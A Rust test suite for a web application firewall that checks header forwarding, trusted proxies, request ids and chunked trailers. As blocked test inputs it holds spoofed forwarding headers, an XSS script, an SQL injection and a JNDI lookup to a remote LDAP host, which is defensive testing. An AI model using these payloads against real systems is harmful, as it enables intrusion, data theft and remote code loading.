//! Fields with a meaning of their own on the way to the upstream: those that describe the client, their twins, request ids,
//! and fields of trailers.

use waf_tests::contract::{self, blocked, encode};
use waf_tests::origin::{Answer, Origin};
use waf_tests::raw::{Connection, Request};
use waf_tests::running::{self, Start, Waf, to_upstream};

/// One worker, so that one pool of upstream connections serves.
fn single(config: &str) -> Waf {
    Start::new().argument("--workers").argument("1").run(config)
}

#[test]
fn forwarding_fields_of_strangers_are_replaced() {
    let origin = Origin::start();
    let waf = running::waf(&to_upstream(&origin.url()));
    let request = Request::get(format!("/?q={}", encode("<b>")))
        .field("X-Forwarded-For", "203.0.113.7")
        .field("X-Forwarded-Proto", "https")
        .field("X-Forwarded-Host", "evil.example");
    assert_eq!(request.to(waf.port).status, 200, "{:?}", waf.events());
    let received = origin.only();
    let all = |name: &str| received.all(name).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(all("X-Forwarded-For"), ["127.0.0.1"]);
    assert_eq!(all("X-Forwarded-Proto"), ["http"]);
    assert_eq!(all("X-Forwarded-Host"), ["shop.example"]);
}

/// Fields by which proxies describe clients, beside those that the service sets itself.
const CLIENT_FIELDS: &[&str] = &[
    "Forwarded",
    "X-Real-IP",
    "True-Client-IP",
    "CF-Connecting-IP",
    "Fastly-Client-IP",
    "X-Client-IP",
    "X-Cluster-Client-IP",
    "X-Forwarded-Port",
    "X-Forwarded-Prefix",
    "X-Forwarded-Server",
    "X-Forwarded-Scheme",
    "X-Forwarded-Ssl",
    "X-Url-Scheme",
    "Front-End-Https",
];

/// A request with every field of [`CLIENT_FIELDS`], as clients and proxies may spell them.
fn describing() -> Request {
    let spellings = CLIENT_FIELDS.iter().enumerate().map(|(at, name)| match at % 2 {
        0 => (*name).to_owned(),
        _ => name.to_lowercase(),
    });
    spellings.fold(Request::get("/").field("X-Custom", "1").field("x_custom", "2"), |request, name| {
        request.field(&name, "8080")
    })
}

#[test]
fn fields_that_describe_the_client_come_from_trusted_proxies() {
    let origin = Origin::start();
    let config = to_upstream(&origin.url());
    let by = |proxies: &str| Start::new().argument("--trusted-proxies").argument(proxies).run(&config);
    let received = |waf: &Waf| {
        assert_eq!(describing().to(waf.port).status, 200, "{:?}", waf.events());
        let received = origin.only();
        assert_eq!((received.field("X-Custom"), received.field("x_custom")), (Some("1"), Some("2")));
        CLIENT_FIELDS.iter().filter(|name| received.field(name).is_some()).count()
    };
    assert_eq!(received(&by("192.0.2.0/24")), 0, "from a stranger");
    assert_eq!(received(&by("127.0.0.0/8")), CLIENT_FIELDS.len(), "from a trusted proxy");
    let open = single(&config);
    assert_eq!(received(&open), CLIENT_FIELDS.len(), "where no proxy is named");
    assert_eq!(received(&open), CLIENT_FIELDS.len());
    let warned = |line: &String| line.contains("--trusted-proxies names those that may set it");
    assert_eq!(open.log().iter().filter(|line| warned(line)).count(), 1, "{:?}", open.log());
}

#[test]
fn twins_of_forwarding_fields_go_whoever_sends_them() {
    let origin = Origin::start();
    let config = to_upstream(&origin.url());
    let trusted = Start::new().argument("--trusted-proxies").argument("127.0.0.0/8").run(&config);
    for waf in [trusted, running::waf(&config)] {
        let twins = ["X_Forwarded_For", "x_forwarded-host", "X_REAL_IP", "CF_Connecting_IP", "X-Request_Id"];
        let more = ["Front_End_Https", "X_Forwarded_Proto", "Keep_Alive", "Proxy_Authorization"];
        let request =
            twins.iter().chain(&more).fold(Request::get("/"), |request, name| request.field(name, "1"));
        assert_eq!(request.field("X_Custom_Name", "1").to(waf.port).status, 200, "{:?}", waf.events());
        let received = origin.only();
        let kept: Vec<&str> =
            received.fields.iter().map(|(name, _)| name.as_str()).filter(|name| name.contains('_')).collect();
        assert_eq!(kept, ["X_Custom_Name"]);
    }
}

#[test]
fn trailers_that_mean_something_in_a_head_are_refused() {
    let origin = Origin::start();
    let waf = running::waf(&to_upstream(&origin.url()));
    for (trailer, status) in [
        ("X-HTTP-Method-Override: DELETE", 400),
        ("X-Original-URL: /admin", 400),
        ("X-Real-IP: 127.0.0.1", 400),
        ("x_original_url: /admin", 400),
        ("X_Forwarded_For: 127.0.0.1", 400),
        ("CF-Connecting-IP: 127.0.0.1", 400),
        ("Transfer_Encoding: chunked", 400),
        ("X-Checksum: abc", 200),
        ("x_checksum: abc", 200),
        ("Server-Timing: db;dur=5", 200),
    ] {
        let mut connection = Connection::open(waf.port).expect("a connection");
        let request = format!(
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n\
             5\r\nhello\r\n0\r\n{trailer}\r\n\r\n"
        );
        connection.send(request).expect("sent");
        assert_eq!(connection.response().expect("a response").status, status, "{trailer}");
        assert_eq!(
            origin.take().iter().filter(|request| request.complete).count(),
            usize::from(status == 200)
        );
    }
}

#[test]
fn forwarding_fields_of_trusted_proxies_are_believed() {
    let origin = Origin::start();
    let config = to_upstream(&origin.url());
    let by_argument =
        Start::new().argument("--trusted-proxies").argument("10.0.0.0/8,127.0.0.0/8").run(&config);
    let by_environment = Start::new().environment("WAF_TRUSTED_PROXIES", "127.0.0.1/32").run(&config);
    for waf in [by_argument, by_environment] {
        let request = Request::get("/")
            .field("X-Forwarded-For", "198.51.100.1, 203.0.113.7")
            .field("X-Forwarded-Proto", "https")
            .field("X-Forwarded-Host", "www.example");
        assert_eq!(request.to(waf.port).status, 200);
        let received = origin.only();
        let one = |name: &str| received.all(name).collect::<Vec<_>>().join(", ");
        assert_eq!(one("X-Forwarded-For"), "198.51.100.1, 203.0.113.7, 127.0.0.1");
        assert_eq!(one("X-Forwarded-Proto"), "https");
        assert_eq!(one("X-Forwarded-Host"), "www.example");
        // Read from the right, the first address that is no trusted proxy is the client.
        let attack = Request::get(format!("/?q={}", encode("<script>alert(1)</script>")))
            .field("X-Forwarded-For", "198.51.100.1, 203.0.113.7");
        let event = waf.event_of(&blocked(&attack.to(waf.port), 403));
        assert_eq!(event["src_endpoint"]["ip"], "203.0.113.7");
    }
}

#[test]
fn request_ids_are_kept_dropped_or_made() {
    let origin = Origin::start();
    let waf = running::waf(&to_upstream(&origin.url()));
    let long = "a".repeat(128);
    for kept in ["abcdefgh", "A.b_c-1234", long.as_str()] {
        let response = Request::get("/").field("X-Request-Id", kept).to(waf.port);
        assert_eq!(response.all("X-Request-Id").collect::<Vec<_>>(), [kept]);
        assert_eq!(origin.only().all("X-Request-Id").collect::<Vec<_>>(), [kept]);
    }
    let too_long = "a".repeat(129);
    for dropped in ["", "1", "abc", "1234567", "a b", "a/b", "ä", "\"x\"", too_long.as_str()] {
        let response = Request::get("/").field("X-Request-Id", dropped).to(waf.port);
        let id = response.field("X-Request-Id").expect("one is made").to_owned();
        assert!(contract::is_uuid_v7(&id), "{id:?} for {dropped:?}");
        assert_eq!(origin.only().all("X-Request-Id").collect::<Vec<_>>(), [id]);
    }
    let made: Vec<String> = (0..3)
        .map(|_| Request::get("/").to(waf.port).field("X-Request-Id").expect("one is made").to_owned())
        .collect();
    assert!(
        made.iter().all(|id| contract::is_uuid_v7(id)) && made[0] != made[1] && made[1] != made[2],
        "{made:?}"
    );
}

#[test]
fn a_request_id_of_the_upstream_is_left() {
    let origin = Origin::answering(|_| Answer::new(200, &[("X-Request-ID", "upstream/1")], "ok"));
    let waf = running::waf(&to_upstream(&origin.url()));
    let response = Request::get("/").field("X-Request-Id", "one-of-mine").to(waf.port);
    assert_eq!(response.all("X-Request-Id").collect::<Vec<_>>(), ["upstream/1"]);
    assert_eq!(origin.only().field("X-Request-Id"), Some("one-of-mine"));
}

#[test]
fn trailers_are_inspected_like_the_fields_of_a_head() {
    let origin = Origin::answering(|_| Answer::raw("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"));
    let waf = running::waf(&to_upstream(&origin.url()));
    for (trailer, status) in [
        ("X-Q: 1' union select password from users--", 403),
        ("X-Api: ${jndi:ldap://203.0.113.5/a}", 403),
        ("X-Checksum: sha256=9f86d081884c7d65", 200),
    ] {
        let mut connection = Connection::open(waf.port).expect("a connection");
        let request = format!(
            "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n\
             5\r\nhello\r\n0\r\n{trailer}\r\n\r\n"
        );
        connection.send(&request).expect("sent");
        assert_eq!(connection.response().expect("a response").status, status, "{trailer}");
    }
}
